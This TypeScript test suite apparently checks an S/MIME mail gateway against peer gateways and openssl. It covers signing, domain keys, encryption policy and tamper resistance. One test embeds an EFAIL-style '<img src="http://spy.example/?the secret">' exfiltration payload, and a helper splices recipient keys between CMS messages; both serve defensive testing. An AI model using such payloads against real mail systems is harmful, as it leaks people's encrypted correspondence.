// S/MIME between real gateways, in both profiles, under keys of users and of a domain, and with openssl at the other end.
import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, it } from 'node:test'
import type { MailKeyEntry } from '../../lib/vault/mail-keys.ts'
import { sealContent } from '../../lib/smime/cms/seal.ts'
import { asMail, authority, certificateOf, fingerprintOf, ownKey } from '../smime/world.ts'
import type { Certified } from '../support/certificates.ts'
import { freePort } from '../support/haraka.ts'
import { peer } from '../support/peers.ts'
import { hishoIni, PASSWORD, USER } from '../support/site.ts'
import { opensslCms, type OpensslCms } from '../support/smime-peers.ts'
import { submit } from '../support/smtp-client.ts'
import type { Delivery } from '../support/smtp-sink.ts'
import { letter, startWorld, type World } from '../support/world.ts'

const text = (delivery: Delivery | undefined): string => delivery?.message.toString('latin1') ?? ''
const entry = (user: string, key: Certified): MailKeyEntry => ownKey(user, key)
const PEM_FOLDER = 'config/hisho.keys/smime'

/** The authority is trusted, and nobody is asked what it has revoked. */
const trusting = (dnsPort: number) => ({
  'config/hisho.ini': hishoIni(dnsPort, '[smime]\nanchors_file=anchors.pem\nrevocation=off\n'),
  'config/anchors.pem': authority.certificate,
})

describe('a domain with S/MIME in the table', () => {
  const site = certificateOf('domain-confidentiality-authority@b.example', { key: 'rsa2048' })
  const modern = certificateOf('domain-confidentiality-authority@m.b.example')
  const bob = certificateOf('bob@b.example')
  const alice = certificateOf('alice@a.example')
  const carol = certificateOf('carol@c.example')
  let world: World
  let openssl: OpensslCms
  before(async () => {
    openssl = opensslCms()
    const ports = { a: await freePort(), b: await freePort() }
    const domainsB = ['b.example', 'm.b.example']
    world = await startWorld({
      ports,
      routesA: { 'm.b.example': ports.b },
      plainDomains: ['spy.example'],
      mailA: { 'a.example': { smime: [entry('alice', alice)] } },
      mailB: {
        'b.example': { smime: [entry('*', site), entry('bob', bob)] },
        'm.b.example': { smime: [entry('*', modern)] },
      },
      tableA: [
        '  b.example: { encrypt: required, scheme: smime }',
        '  m.b.example: { encrypt: required, scheme: smime, smime: modern }',
        '  spy.example: { encrypt: required, scheme: smime }',
        '  none.example: { encrypt: required, scheme: smime, key_sources: [operator] }',
      ].join('\n'),
      tableB: '  a.example: { encrypt: required, scheme: smime, smime: modern }',
      filesA: (dnsPort) => ({
        ...trusting(dnsPort),
        [`${PEM_FOLDER}/b.example.pem`]: site.certificate,
        [`${PEM_FOLDER}/bob@b.example.pem`]: bob.certificate,
        [`${PEM_FOLDER}/m.b.example.pem`]: modern.certificate,
        [`${PEM_FOLDER}/spy.example.pem`]: site.certificate,
      }),
      filesB: (dnsPort) => ({
        ...trusting(dnsPort),
        'config/host_list': domainsB,
        'config/hisho.yaml': `local: [${domainsB.join(', ')}]\nsenders: { ${USER}: ['*@b.example'] }\ndomains:\n  a.example: { encrypt: required, scheme: smime, smime: modern }\n  old.example: { unproven: open }\n`,
        [`${PEM_FOLDER}/alice@a.example.pem`]: alice.certificate,
      }),
    })
  })
  after(async () => {
    await world?.close()
    openssl.close()
  })
  beforeEach(() => {
    world.c.clear()
    world.inboxA.clear()
    world.inboxB.clear()
  })

  const deliver = (message: string, to = 'bob@b.example', from = 'carol@c.example') =>
    submit({ port: world.b.port, from, to: [to], message: Buffer.from(message, 'latin1') })
  const arrived = async (): Promise<string> => text((await world.inboxB.waitFor(1))[0])
  const SIGNED = 'integrity=ok; signature=pass; method=smime; signer="alice@a.example"'

  it('compat: mail for users with and without a certificate arrives byte for byte, signed, and marked', async () => {
    const to = ['bob@b.example', 'dora@b.example']
    const message = letter('the secret', { To: to.join(', ') })
    assert.equal((await world.send(message, to)).code, 250)
    const [delivery] = await world.inboxB.waitFor(1)
    const keys = [bob, site].map((key) => `"${fingerprintOf(key)}"`)
    const found = text(delivery)
    assert.match(found, /^Hisho-Decrypted: smime; key=("[0-9a-f]{64}",?)+; cipher=aes-256-cbc; /m)
    for (const key of keys) assert.ok(found.includes(key), key)
    assert.ok(found.includes(SIGNED), found)
    assert.match(found, /smime=pass body\.smime-identifier=alice@a\.example/)
    assert.ok(found.endsWith(message), found)
    assert.equal(delivery?.to.length, 2)
  })

  it('modern: under the certificate of a domain, and back', async () => {
    const to = 'bob@m.b.example'
    const message = letter('the secret', { To: to })
    assert.equal((await world.send(message, [to])).code, 250)
    const found = await arrived()
    const mark = `Hisho-Decrypted: smime; key="${fingerprintOf(modern)}"; cipher=aes-256-gcm; transport=ecdh; ${SIGNED}\r\n`
    assert.ok(found.includes(mark), found)
    assert.ok(found.endsWith(message))
    const answer = letter('the answer', { From: 'bob@b.example', To: 'alice@a.example' })
    const login = { user: USER, password: PASSWORD }
    const reply = await submit({
      port: world.b.port,
      from: 'bob@b.example',
      to: ['alice@a.example'],
      message: Buffer.from(answer, 'latin1'),
      ...login,
    })
    assert.equal(reply.code, 250)
    const back = text((await world.inboxA.waitFor(1))[0])
    assert.match(back, /^Hisho-Decrypted: smime; .*; signature=pass; .*signer="bob@b\.example"/m)
    assert.ok(back.endsWith(answer))
  })

  it('C7 C16: on the wire there is no plaintext, and it opens for nobody to whom it is sent again', async () => {
    const to = 'bob@spy.example'
    assert.equal((await world.send(letter('the secret', { To: to }), [to])).code, 250)
    const [sealed] = await world.c.waitFor(1)
    assert.match(text(sealed), /^Subject: \[\.\.\.\]\r$/m)
    assert.match(
      text(sealed),
      /^Content-Type: application\/pkcs7-mime; smime-type=enveloped-data;/m,
    )
    assert.equal(world.c.wire().includes('secret'), false)
    assert.equal((await deliver(text(sealed), 'dora@b.example', 'alice@a.example')).code, 250)
    const found = await arrived()
    assert.match(found, /application\/pkcs7-mime/)
    assert.doesNotMatch(found, /the secret|Hisho-Decrypted/)
  })

  it('C17: without a certificate nothing goes out where encryption is required', async () => {
    const to = 'bob@none.example'
    assert.equal((await world.send(letter('the secret', { To: to }), [to])).code, 550)
  })

  it('C2: what is not signed and not authenticated is delivered as it came', async () => {
    const entity = 'Content-Type: text/plain\r\n\r\nthe secret\r\n'
    const wire = asMail(sealContent(Buffer.from(entity), [bob.der], 'compat'), {
      From: 'carol@c.example',
    })
    assert.equal((await deliver(wire)).code, 250)
    const found = await arrived()
    assert.match(found, /^Hisho-Not-Decrypted: policy; /m)
    assert.doesNotMatch(found, /the secret|Hisho-Decrypted:/)
  })

  it('C2: where the table says so it is opened, marked, alone, and nothing in it is shown as HTML', async () => {
    const entity =
      'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' +
      '<img src="http://spy.example/?the secret">\r\n--b--\r\n'
    const sealed = sealContent(Buffer.from(entity), [bob.der], 'compat')
    const wire = asMail(sealed, { From: 'carol@old.example', 'X-Html': '<img src="http://spy' })
    assert.equal((await deliver(wire)).code, 250)
    const opened = await arrived()
    assert.match(
      opened,
      /^Hisho-Decrypted: smime; .*; integrity=unproven; active_content=text; signature=unchecked\r$/m,
    )
    const shown = entity.replace('text/html', 'text/plain').replace('utf-8', '"utf-8"')
    assert.ok(opened.endsWith(shown), opened)
    // With a part of somebody else's behind it, it is no S/MIME message any more.
    world.inboxB.clear()
    const added = '\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>\r\n'
    assert.equal((await deliver(wire + added)).code, 250)
    assert.match(await arrived(), /^Hisho-Not-Decrypted: closed; /m)
  })

  describe('and openssl', { skip: peer('openssl', 'openssl') }, () => {
    const ENTITY = 'Content-Type: text/plain; charset=utf-8\r\n\r\nHello, here is the secret.\r\n'
    const byOpenssl = async (to: readonly Certified[], cipher: string): Promise<string> => {
      const signed = await openssl.sign(Buffer.from(ENTITY), carol, 'clear')
      const mail = await openssl.encrypt(signed, to, [cipher])
      return `From: Carol <carol@c.example>\r\nTo: bob@b.example\r\nSubject: outside\r\n${mail.toString('latin1').replaceAll(/\r?\n/g, '\r\n')}`
    }

    it('what it has signed and sealed for a user opens for that user alone', async () => {
      const message = await byOpenssl([bob], '-aes-256-cbc')
      assert.equal((await deliver(message)).code, 250)
      const found = await arrived()
      assert.match(
        found,
        /^Hisho-Decrypted: smime; .*signature=pass; method=smime; signer="carol@c\.example"/m,
      )
      assert.match(found, /^Subject: outside\r$/m)
      assert.ok(found.endsWith(ENTITY.slice(ENTITY.indexOf('\r\n\r\n'))))
      world.inboxB.clear()
      assert.equal((await deliver(message, 'dora@b.example')).code, 250)
      assert.doesNotMatch(await arrived(), /secret|Hisho-Decrypted/)
    })

    it('C5: damaged, for another key, or with recipients that were replaced, it stays closed', async () => {
      const good = await byOpenssl([bob], '-aes-256-gcm')
      const at = good.trimEnd().length - 30
      const damaged = `${good.slice(0, at)}${good[at] === 'A' ? 'B' : 'A'}${good.slice(at + 1)}`
      const other = await byOpenssl([carol], '-aes-256-gcm')
      for (const message of [
        damaged,
        other,
        withRecipientOf(good, await byOpenssl([bob], '-aes-256-gcm')),
      ]) {
        world.inboxB.clear()
        assert.equal((await deliver(message)).code, 250)
        const found = await arrived()
        assert.match(found, /^Hisho-Not-Decrypted: closed; /m)
        assert.doesNotMatch(found, /secret|Hisho-Decrypted:/)
      }
    })
  })
})

/** The content of one message, and the sealed key of another one. Both have lengths alike. */
function withRecipientOf(message: string, other: string): string {
  const split = message.indexOf('\r\n\r\n') + 4
  const der = Buffer.from(message.slice(split), 'base64')
  const otherDer = Buffer.from(other.slice(other.indexOf('\r\n\r\n') + 4), 'base64')
  // The ephemeral point and the wrapped key: all of the RecipientInfo that is not the same in both.
  for (const [mark, length] of [
    ['03420004', 4 + 64],
    ['0428', 2 + 40],
  ] as const)
    otherDer.copy(
      der,
      der.indexOf(mark, 0, 'hex'),
      otherDer.indexOf(mark, 0, 'hex'),
      otherDer.indexOf(mark, 0, 'hex') + length,
    )
  return message.slice(0, split) + der.toString('base64').replaceAll(/.{1,76}/g, '$&\r\n')
}
